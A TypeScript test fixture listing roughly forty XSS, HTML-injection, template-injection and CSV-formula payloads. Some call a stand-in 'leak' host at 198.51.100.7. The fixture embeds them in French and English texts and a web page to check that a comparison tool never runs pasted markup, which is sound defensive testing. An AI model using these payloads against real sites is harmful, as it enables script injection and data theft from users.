/**
 * Hostile strings a reader might paste, on purpose or not: each one, were it ever run or rendered
 * as markup, would leave a trace the journey looks for: a dialog, a request to the documentation
 * address 198.51.100.7 (which never reaches 127.0.0.1, so the journey's watcher sees it), or
 * `window.__pwned` set. Together they cover script tags, event handlers, `javascript:` addresses,
 * SVG, `srcdoc`, CSS expressions and imports, entity and encoding tricks, and template injection.
 */

const LEAK = 'http://198.51.100.7/leak';

export const HOSTILE_PAYLOADS: readonly string[] = [
  `<script>window.__pwned='script';alert(1)</script>`,
  `<script src="${LEAK}/script.js"></script>`,
  `"><script>window.__pwned='breakout'</script>`,
  `'><img src=x onerror="window.__pwned='img-onerror';alert(2)">`,
  `<img src="${LEAK}/img.png">`,
  `<svg onload="window.__pwned='svg-onload'"><circle r="5"/></svg>`,
  `<svg><script>window.__pwned='svg-script'</script></svg>`,
  `<svg><a xlink:href="javascript:window.__pwned='svg-link'"><text x="0" y="10">clic</text></a></svg>`,
  `<a href="javascript:window.__pwned='js-link';alert(3)">lien</a>`,
  `<a href="JaVaScRiPt:alert(4)">mixed case</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(5)">entities</a>`,
  `<iframe src="javascript:alert(6)"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.alert(7)&gt;"></iframe>`,
  `<object data="${LEAK}/object"></object>`,
  `<embed src="${LEAK}/embed.swf">`,
  `<body onload="window.__pwned='body-onload'">`,
  `<div style="background:url(${LEAK}/style-bg.png)">styled</div>`,
  `<div style="width: expression(alert(8))">IE expression</div>`,
  `<style>@import url("${LEAK}/import.css"); body{background:url(${LEAK}/bg.png)}</style>`,
  `<link rel="stylesheet" href="${LEAK}/link.css">`,
  `<meta http-equiv="refresh" content="0;url=${LEAK}/refresh">`,
  `<base href="${LEAK}/">`,
  `<form action="${LEAK}/form"><button formaction="javascript:alert(9)">envoyer</button></form>`,
  `<input autofocus onfocus="window.__pwned='autofocus'">`,
  `<details open ontoggle="window.__pwned='ontoggle'">détails</details>`,
  `<video><source onerror="window.__pwned='video'"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'">`,
  `<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></noscript>`,
  `&lt;script&gt;window.__pwned='entity'&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(10)&#62;`,
  `\u003cscript\u003ewindow.__pwned='unicode'\u003c/script\u003e`,
  `{{constructor.constructor('window.__pwned="template"')()}}`,
  `\${alert(11)} and {{7*7}}`,
  `<template><img src=x onerror="window.__pwned='template-tag'"></template>`,
  `<img srcset="${LEAK}/srcset.png 1x">`,
  `]]><!--<script>window.__pwned='cdata'</script>-->`,
  `=HYPERLINK("${LEAK}/csv","clic") +cmd|'/C calc'!A0 @SUM(1)`,
];

/** A French text to compare: each payload inside a short French paragraph, so the engine has sentences. */
export function hostileFrenchText(): string {
  return [
    '# Le ministère répond aux questions sur les réseaux privés',
    ...HOSTILE_PAYLOADS.map((payload, index) => `Le porte-parole a déclaré le ${index + 1} mars 2024 que la règle ne change pas. ${payload}`),
  ].join('\n\n');
}

/** An English text to compare, the counterpart of `hostileFrenchText`. */
export function hostileEnglishText(): string {
  return [
    '# The ministry answers questions on private networks',
    ...HOSTILE_PAYLOADS.map((payload, index) => `The spokesman said on March ${index + 1}, 2024 that the rule does not change. ${payload}`),
  ].join('\n\n');
}

/** The same payloads as one web page, as a reader would paste it from a browser. */
export function hostilePage(): string {
  return `<!doctype html><html><head><title>Réseaux privés <script>window.__pwned='title'</script></title>
<meta property="og:site_name" content="Journal d'essai"><link rel="canonical" href="javascript:alert(12)">
<script>window.__pwned='head'</script></head><body>
<h1>Le ministère répond aux questions</h1>
${HOSTILE_PAYLOADS.map((payload, index) => `<p>Le porte-parole a déclaré le ${index + 1} mars 2024 que la règle ne change pas. ${payload}</p>`).join('\n')}
</body></html>`;
}
